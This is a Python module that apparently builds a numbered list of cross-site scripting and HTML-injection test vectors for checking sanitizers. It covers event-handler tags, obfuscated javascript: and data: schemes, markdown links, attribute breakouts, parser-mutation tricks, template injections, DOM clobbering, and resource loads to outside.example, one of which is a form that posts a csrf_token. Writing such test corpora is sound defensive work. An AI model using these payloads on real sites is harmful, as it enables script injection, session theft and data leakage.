"""Texts that would run a script or load something if a page let them, made up here.

Each calls `hit` or loads an address of `outside.example` under a number of its own, so
that whatever gets through says which of them it was.
"""

from collections.abc import Iterator, Sequence
from functools import cache
from html import escape
from itertools import product
from urllib.parse import quote

OUTSIDE = "https://outside.example"
NUMBER = "\u00a7"
HIT = f"hit({NUMBER})"
LOAD = f"{OUTSIDE}/{NUMBER}"
TAGS_AND_EVENTS = (
    *(("img src=/no-such", one) for one in ("onerror", "onload", "onclick")),
    *(("svg", one) for one in ("onload", "onfocus", "onmouseover")),
    *(("body", one) for one in ("onload", "onpageshow", "onhashchange", "onfocus")),
    *(("details open", one) for one in ("ontoggle", "onclick", "onmouseenter")),
    *(("input autofocus", one) for one in ("onfocus", "onblur", "onselect", "oninput")),
    *(("video src=/no-such", one) for one in ("onerror", "onloadstart", "onemptied")),
    *(("audio src=/no-such", one) for one in ("onerror", "onloadstart")),
    *(("marquee", one) for one in ("onstart", "onfinish", "onbounce")),
    *(("iframe", one) for one in ("onload", "onmouseover")),
    *(("a href=#x tabindex=1", one) for one in ("onfocus", "onclick", "onpointerdown")),
    *(("b tabindex=1", one) for one in ("onmouseover", "onpointerenter", "onwheel")),
    *(("div contenteditable", one) for one in ("onfocus", "onkeydown", "onpaste")),
    *(("style", one) for one in ("onload", "onerror")),
    *(("select autofocus", one) for one in ("onfocus", "onchange")),
    *(("textarea autofocus", one) for one in ("onfocus", "onbeforeinput")),
    *(("object data=/no-such", one) for one in ("onerror", "onload")),
    *(("link rel=stylesheet href=/no-such", one) for one in ("onerror", "onload")),
    *(("dialog open", one) for one in ("oncancel", "onclose", "onclick")),
    *(("form", one) for one in ("onsubmit", "onformdata")),
    *(("p style=animation:x", one) for one in ("onanimationstart", "ontransitionend")),
    *(("x popover", one) for one in ("onbeforetoggle", "onfocusin")),
)
SPELLED = (
    "<{tag} {on}={code}>",
    "<{tag} {on}='{code}'/>",
    '<{tag}\n{on}\t=\n"{code}">',
    "<{tag}/{ON}={code}//",
)
SCHEMES = (
    *(
        "javascript:@",
        "JaVaScRiPt:@",
        "java\tscript:@",
        "java\nscript:@",
        " javascript:@",
    ),
    *(
        "\x01javascript:@",
        "&#106;avascript:@",
        "&#x6a;avascript:@",
        "javascript&colon;@",
    ),
    *("javascript&#58;@", "javascript\u200b:@", "jav&#x09;ascript:@", "%6Aavascript:@"),
    *(
        "javascript://%0a@",
        "javascript://outside.example/%0A@",
        "vbscript:@",
        "jscript:@",
    ),
    *("data:text/html,<script>@</script>", "data:text/html;base64,PHNjcmlwdD4=#@"),
    *(
        "data:image/svg+xml,<svg onload=@>",
        "data:,@",
        "blob:@",
        "view-source:javascript:@",
    ),
    *(
        "feed:javascript:@",
        "livescript:@",
        "mhtml:@",
        "filesystem:@",
        "\ufeffjavascript:@",
    ),
    *("javascript\u2028:@", "x-javascript:@", "java\x00script:@", "&Tab;javascript:@"),
)
LINKS = (
    *("[go]({to})", "[go](<{to}>)", "![go]({to})", '[go]({to} "a title")', "<{to}>"),
    *("[go][r]\n\n[r]: {to}", "![go][r]\n\n[r]: <{to}>", "[{to}]({to})", "{to}"),
    *('<a href="{to}">go</a>', "<form action='{to}'><button>go</button></form>"),
    *('<button formaction="{to}">go</button>', '<iframe src="{to}"></iframe>'),
    *('<svg><a href="{to}"><text y=9>go</text></a></svg>', '<base href="{to}">'),
    '<math href="{to}">go</math>',
)
BROKEN_OUT = (
    *(
        '"{end}',
        "'{end}",
        "`{end}",
        '">{end}',
        "'>{end}",
        "--> {end}",
        "]]>{end}",
        "*/{end}",
    ),
    *(
        "</textarea>{end}",
        "</title>{end}",
        "</script>{end}",
        "</style>{end}",
        "</p>{end}",
    ),
    *(
        "</select></option>{end}",
        "</a>{end}",
        "</code></pre>{end}",
        "%>{end}",
        "?>{end}",
    ),
    *(
        "{{{{{end}}}}}",
        "</summary></details>{end}",
        "</template>{end}",
        "\\{end}",
        '\\"{end}',
    ),
)
ENDS = (
    *(
        " onmouseover={hit} x=",
        " autofocus onfocus={hit} y='",
        "<img src=/no onerror={hit}>",
    ),
    *("<script>{hit}</script>", "<svg/onload={hit}>", f"<img src={LOAD}>"),
)
MARKDOWN = (
    *("[x](https://a.example/{end})", "[x](https://a.example '{end}')", "![{end}](/x)"),
    *(
        '[x](https://a.example "{end}")',
        "```{end}\nx\n```",
        "~~~ {end}\nx\n~~~",
        "# {end}",
    ),
    *("`{end}`", "| {end} |\n|---|\n| {end} |", "|a|\n|:{end}:|", "- {end}", "> {end}"),
    *("https://a.example/{end}", "www.a.example?{end}", "[{end}]: https://a.example"),
    *("[x]: /y '{end}'\n\n[x]", "<https://a.example/{end}>", "1. {end}", "**{end}**"),
    *("~~{end}~~", "    {end}", "{end}\n===", "@{end}", "[^{end}]\n\n[^{end}]: x"),
)
MUTATING = (
    "<math><mtext><table><mglyph><style><!--</style>{end}--></style>",
    "<math><annotation-xml encoding='text/html'><p>{end}</annotation-xml></math>",
    "<svg><style><!--</style>{end}--></style></svg>",
    "<svg><foreignObject><p>{end}</p></foreignObject></svg>",
    "<svg></p><style><g title='</style>{end}'>",
    "<noscript><p title='</noscript>{end}'>",
    "<noembed><p title='</noembed>{end}'></noembed>",
    "<xmp><p title='</xmp>{end}'></xmp>",
    "<textarea><p title='</textarea>{end}'></textarea>",
    "<title><p title='</title>{end}'></title>",
    "<iframe><p title='</iframe>{end}'></iframe>",
    "<template><p>{end}</p></template>",
    "<select><template>{end}</template></select>",
    "<table><td>{end}<table><caption>{end}",
    "<form><div></form><form>{end}",
    "<details><summary><details>{end}",
    "<a><a><b><p>{end}</a></a></b>",
    "<plaintext>{end}",
    "<!--><p>{end}-->",
    "<!-- --!>{end}",
    "<?xml version='1'?>{end}<?",
    "<![CDATA[>{end}]]>",
    "<!DOCTYPE x [<!ENTITY y '{end}'>]>&y;",
    "<frameset><frame>{end}",
    "<image src=/no>{end}</image>",
    "<mtext><option><p title='</option>{end}'>",
)
SCRIPTS = (
    *("<script>{hit}</script>", "<SCRIPT>{hit}</SCRIPT>", "<script\n>{hit}</script\n>"),
    *(
        "<scr<script>ipt>{hit}</scr</script>ipt>",
        "<script/x>{hit}</script>",
        "<script>{hit}",
    ),
    *("<script type=module>{hit}</script>", "<svg><script>{hit}</script></svg>"),
    *(
        "<script\x00>{hit}</script>",
        "<\x00script>{hit}</script>",
        "<<script>{hit}//<</script>",
    ),
    *("<script src={load}></script>", "<script src=//outside.example/§></script>"),
    *("<svg><script href={load} /></svg>", "<script type=importmap>{{{hit}}}</script>"),
    *(
        "\uff1cscript\uff1e{hit}\uff1c/script\uff1e",
        "+ADw-script+AD4-{hit}+ADw-/script+AD4-",
    ),
    *(
        "\\u003cscript\\u003e{hit}\\u003c/script\\u003e",
        "\\x3cscript\\x3e{hit}\\x3c/script\\x3e",
    ),
    *(
        "';{hit};//",
        '";{hit};//',
        "`;{hit};//",
        "\\';{hit};//",
        "'-{hit}-'",
        '"-{hit}-"',
    ),
    *(
        "${{{hit}}}",
        "#{{{hit}}}",
        "<%= {hit} %>",
        "{{{{ {hit} }}}}",
        "{{% {hit} %}}",
        "[[{hit}]]",
    ),
    *("{{{{constructor.constructor('{hit}')()}}}}", "*{{{hit}}}", "\u2028{hit}\u2029"),
    *(
        "</script><script>{hit}</script>",
        "<!--<script>{hit}</script>-->",
        "]]><script>{hit}",
    ),
)
LOADS = (
    *(
        "![x]({load})",
        "![x](<{load}> 'y')",
        "![x][y]\n\n[y]: {load}",
        "[![x]({load})](/z)",
    ),
    *(
        "![x](//outside.example/§)",
        "![x](/\\outside.example/§)",
        "![](http:outside.example/§)",
    ),
    *(
        "<img src={load}>",
        "<img srcset='{load} 2x'>",
        "<img lowsrc={load} dynsrc={load}>",
    ),
    *(
        "<picture><source srcset={load}><img></picture>",
        "<video poster={load}></video>",
    ),
    *("<video src={load} autoplay></video>", "<audio src={load} autoplay></audio>"),
    *(
        "<video><source src={load}></video>",
        "<video><track src={load} default></video>",
    ),
    *(
        "<iframe src={load}></iframe>",
        "<object data={load}></object>",
        "<embed src={load}>",
    ),
    *(
        "<input type=image src={load}>",
        "<body background={load}>",
        "<table background={load}>",
    ),
    *("<link rel=stylesheet href={load}>", "<link rel=prefetch href={load}>"),
    *("<link rel=preload as=image href={load}>", "<link rel=icon href={load}>"),
    *("<link rel=modulepreload href={load}>", "<link rel=dns-prefetch href={load}>"),
    *("<style>@import '{load}';</style>", "<style>*{{background:url({load})}}</style>"),
    *(
        "<p style=\"background:url('{load}')\">x</p>",
        "<p style='--x:url({load})'>x</p>",
    ),
    *(
        "<svg><image href={load}></svg>",
        "<svg><use href='{load}#x'></svg>",
        "<base href={load}>",
    ),
    *(
        "<svg><feImage href={load}></svg>",
        "<meta http-equiv=refresh content='0;url={load}'>",
    ),
    *(
        "<form action={load}><input name=csrf_token></form>",
        "<a ping={load} href=/x>x</a>",
    ),
    *(
        "<iframe srcdoc='<img src={load}>'></iframe>",
        "<a href=/x attributionsrc={load}>x</a>",
    ),
    *(
        "<frameset><frame src={load}></frameset>",
        "<html manifest={load}>",
        "<applet code={load}>",
    ),
    *("<bgsound src={load}>", "<portal src={load}></portal>", "<xml src={load}></xml>"),
)
CLOBBERS = (
    *(
        "<a id=hit name=hit href=/x>{hit}</a>",
        "<form id=document><input name=body></form>",
    ),
    *(
        "<img name=querySelector>{hit}",
        "<input name=csrf_token value=x>",
        "<p id=main>{hit}</p>",
    ),
    *(
        "<a class=ext data-confirm='{hit}'>x</a>",
        "<div role=alert aria-live=polite>{hit}</div>",
    ),
    *(
        "<button type=submit form=x>{hit}</button>",
        "<meta name=csrf_token content='{hit}'>",
    ),
)


@cache
def vectors() -> tuple[str, ...]:
    """Return all of them, each once and with its own number."""
    return tuple(
        shape.replace(NUMBER, str(number))
        for number, shape in enumerate(dict.fromkeys(_shapes()), start=1)
    )


def packed(size: int) -> Iterator[str]:
    """Yield texts that are no longer than this, with as many vectors as they hold."""
    text = ""
    for one in vectors():
        if len(one) > size:
            continue
        if len(text) + len(one) + 1 > size:
            yield text
            text = ""
        text = f"{text} {one}" if text else one
    if text:
        yield text


def _shapes() -> Iterator[str]:
    yield from _with_events()
    targets = [scheme.replace("@", HIT) for scheme in SCHEMES]
    yield from (link.format(to=to) for link, to in _some(LINKS, targets))
    ends = [end.format(hit=HIT) for end in ENDS]
    for around in (BROKEN_OUT, MUTATING, MARKDOWN):
        yield from (shape.format(end=end) for shape, end in _some(around, ends))
    for plain in (*SCRIPTS, *LOADS, *CLOBBERS):
        shape = plain.format(hit=HIT, load=LOAD)
        yield shape
        yield escape(shape)
        yield quote(shape).replace(quote(NUMBER), NUMBER)


def _with_events() -> Iterator[str]:
    """Every tag with every event that it knows, each written in two of four ways."""
    for place, (tag, event) in enumerate(TAGS_AND_EVENTS):
        for spelled in (SPELLED[place % 4], SPELLED[(place + 2) % 4]):
            yield spelled.format(tag=tag, on=event, ON=event.upper(), code=HIT)


def _some(shapes: Sequence[str], fillings: Sequence[str]) -> Iterator[tuple[str, str]]:
    """Pair each shape with every second filling, and so that none is left out."""
    for (row, shape), (column, filling) in product(
        enumerate(shapes), enumerate(fillings)
    ):
        if (row + column) % 2 == 0:
            yield shape, filling
